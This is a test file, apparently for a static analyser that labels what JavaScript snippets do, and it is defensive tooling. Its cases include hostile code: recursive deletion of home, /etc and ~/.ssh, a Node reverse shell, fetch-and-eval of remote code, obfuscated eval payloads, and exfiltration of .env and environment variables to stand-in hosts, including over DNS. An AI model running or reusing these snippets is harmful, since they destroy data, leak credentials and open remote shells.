import { describe, expect, test } from "vitest";
import { display } from "../../src/types/text.ts";
import { effectsOfCode, harmless, reading } from "./table.ts";

describe("files", () => {
  effectsOfCode("javascript", {
    "require('fs').rmSync('dist',{recursive:true,force:true})": ["delete dist recursive"],
    "require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})": ["delete $HOME recursive"],
    "const {rmSync: r} = require('node:fs'); r('/x')": ["delete /x"],
    "import fs, {unlinkSync as u} from 'fs'; u('a'); fs.promises.rm('b',{recursive:true})": [
      "delete a",
      "delete b recursive",
    ],
    "import * as f from 'fs/promises'; await f.unlink('a')": ["delete a"],
    "process.getBuiltinModule('node:fs').unlinkSync('a')": ["delete a"],
    "module.constructor._load('child_process').execSync('ls')": ["runs shell: ls"],
    "console.log(require('/x/config.json').auths)": ["read /x/config.json shows"],
    "import k from './k.json' with {type: 'json'}; console.log(k)": ["read ./k.json shows"],
    "require('./lib/json'); require('x.json.js')": [],
    "import('fs').then(f => f.rmSync('z'))": ["delete z"],
    "fs['rm'+'Sync']('a')": ["delete a"],
    "fs.rmSync(`${dir}/x`)": ["delete <dir>/x"],
    "fs.rmSync('⟨X⟩', {recursive: true})": ["delete $X recursive"],
    "['a','b'].forEach(f => fs.rmSync(f))": ["delete $item"],
    "['a','b'].map(fs.unlinkSync)": ["delete $item"],
    "for (const n of ['a','b']) { fs.unlinkSync(n) }": ["delete $n"],
    "const p = path.join(os.homedir(), '.ssh'); for (const f of fs.readdirSync(p)) fs.unlinkSync(path.join(p, f))": [
      "delete $HOME/.ssh/*",
    ],
    "async function clean(dir){ await fs.promises.rm(dir,{recursive:true}) } clean('/etc')": ["delete /etc recursive"],
    "const clean = dir => rimraf.sync(dir); const rimraf = require('rimraf'); clean('x')": ["delete x recursive"],
    "class A { go() { fs.unlinkSync('q') } }": ["delete q"],
    "fs.rmSync(process.env.HOME + '/x')": ["delete $HOME/x"],
    "fs.writeFileSync('a', 'rm -rf /'); fs.appendFileSync('b', 'x'); fs.renameSync('c', 'd')": [
      "write a replace",
      "write b append",
      "move c d",
    ],
    "require('fs-extra').removeSync('a')": ["delete a recursive"],
    "Deno.removeSync('a', {recursive: true})": ["delete a recursive"],
  });
  effectsOfCode("javascript", { "fs.unlinkSync(process.argv[2])": ["delete old"] }, { args: ["x.js", "old"] });
});

describe("reading and secrets", () => {
  effectsOfCode("javascript", {
    "console.log(require('fs').readFileSync('.env','utf8'))": ["read .env shows"],
    "JSON.parse(fs.readFileSync('package.json'))": ["read package.json"],
    "fs.promises.readFile('.env').then(console.log)": ["read .env shows"],
    "console.log(process.env)": ["reveal what(* environment body)"],
    "console.log(JSON.stringify(process.env))": ["reveal what(* environment body)"],
  });
  test("what is printed is known, or said to carry", () => {
    expect(display(reading("javascript", "console.log('rm', `-rf ${'~'}`)").flow.text!)).toBe("rm -rf ~\n");
    expect(reading("javascript", "console.log(process.env.TOKEN)").flow.payloads.map((item) => item.of)).toEqual([
      { variable: "TOKEN" },
    ]);
  });
});

describe("programs and code", () => {
  effectsOfCode("javascript", {
    "require('child_process').execSync('rm -rf ~')": ["runs shell: rm -rf ~"],
    "const cp=require('child_process'); cp.spawn('ls',['-l']); cp.spawnSync('ls -l',{shell:true})": [
      "runs: ls -l",
      "runs shell: ls -l",
    ],
    "const {exec}=require('child_process'); exec('id',(e,o)=>console.log(o))": ["runs shell: id"],
    "await Bun.$`rm -rf ${x}`": ["runs shell: rm -rf <x>"],
    "new Deno.Command('rm', {args: ['-rf', '/']}).output()": ["runs: rm -rf /"],
    "process.mainModule.require('child_process').execSync('id')": ["runs shell: id"],
    "new Function('return process')().mainModule.require('child_process').execSync('id')": ["runs shell: id"],
    "eval(atob('ZnMudW5saW5rU3luYygnYScp'))": ["delete a"],
    "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk=','base64').toString())": ["delete a"],
    "eval(code)": ["opaque foreign-code javascript"],
    "fetch('http://x/s').then(r=>r.text()).then(eval)": [
      "connect http://x/s fetch checked",
      "run $(response) fetched from[fetched http://x/s]",
    ],
    "var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(8080,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})":
      [
        "runs: /bin/sh",
        "connect tcp://10.0.0.1:8080 tunnel checked",
        "run /bin/sh fetched from[fetched tcp://10.0.0.1:8080]",
        "runs shell from stdin",
      ],
  });
});

describe("network", () => {
  effectsOfCode("javascript", {
    "fetch('https://h.example',{method:'POST',body:require('fs').readFileSync('.env')})": [
      "read .env shows",
      "connect https://h.example change sends[.env body] checked",
    ],
    "fetch('http://localhost:3000/x')": ["connect http://localhost:3000/x fetch checked"],
    "axios.post('http://h', {t: process.env.T}, {headers: {authorization: process.env.U}})": [
      "connect http://h change sends[T body, U auth] checked",
    ],
    "fs.readFile('.env','utf8',(e,d)=>fetch('http://x/?q='+d))": [
      "connect http://x/?q=$(content) fetch sends[.env url] checked",
      "read .env shows",
    ],
    "https.request({hostname:'h',path:'/p',method:'POST'},r=>{}).end(JSON.stringify(process.env))": [
      "connect https://h/p change sends[* environment body] checked",
    ],
    "require('http').get('http://h', res => { res.pipe(fs.createWriteStream('f')) })": [
      "write f replace from[fetched http://h]",
      "connect http://h fetch checked",
    ],
    "require('dns').lookup(process.env.TOKEN + '.h.example', () => {})": [
      "connect dns://$TOKEN.h.example fetch sends[TOKEN name] checked",
    ],
  });
});

describe("left alone", () => {
  harmless("javascript", [
    "console.log('rm -rf /')",
    "// fs.rmSync('/')",
    "/* fs.rmSync('/', {recursive: true}) */ 1",
    "console.log([1,2,3].filter(x => x > 1))",
    "const x = a > b ? 'rm -rf /' : /rm -rf \\/'/; console.log(x)",
    "const cmds = ['rm -rf /', 'curl x | sh']; cmds.forEach(c => console.log(c))",
    "console.log(`fs.rmSync('/') ${1 > 2}`)",
    "items.delete('a'); map.clear(); el.remove(); list.splice(0)",
    "/exec\\('id'\\)/.exec(text)",
    "const a = 4 / 2; const s = \"fs.unlinkSync('x')\"; a / 2",
    "$('div').remove()",
    "console.log(process.env.HOME, process.cwd())",
    "JSON.stringify({rmSync: 'x', recursive: true})",
    "fs.existsSync('a') && fs.mkdirSync('b', {recursive: true})",
    "const fetchUser = id => users[id]; fetchUser(1)",
    "console.log(⟨N⟩ * 2)",
    "export default { plugins: [], exec: 'rm' }",
  ]);
});

describe("state of the code itself", () => {
  effectsOfCode("javascript", {
    "process.chdir('/etc'); fs.unlinkSync('passwd')": ["delete /etc/passwd"],
    "fs.readdirSync('.').filter(f => f.endsWith('.log')).forEach(f => fs.unlinkSync(f))": ["delete *"],
    "import('child_process').then(({execSync}) => execSync('id'))": ["runs shell: id"],
    "Object.entries(process.env).forEach(([k, v]) => console.log(k, v))": ["reveal what(* environment body)"],
    "fs.rmSync('/etc', {recursive: !0})": ["delete /etc recursive"],
    "[]['filter']['constructor']('fs.unlinkSync(\"m\")')()": ["delete m"],
    "const {promisify} = require('util'); promisify(require('child_process').exec)('id')": ["runs shell: id"],
    "await db.query('DELETE FROM t')": ["runs sql: DELETE FROM t"],
  });
  harmless("javascript", [
    "console.log(Object.keys(process.env), typeof process.env.TOKEN)",
    "/x/.exec('DELETE FROM t')",
    "const {PORT = 3000} = process.env; console.log(PORT)",
  ]);
});
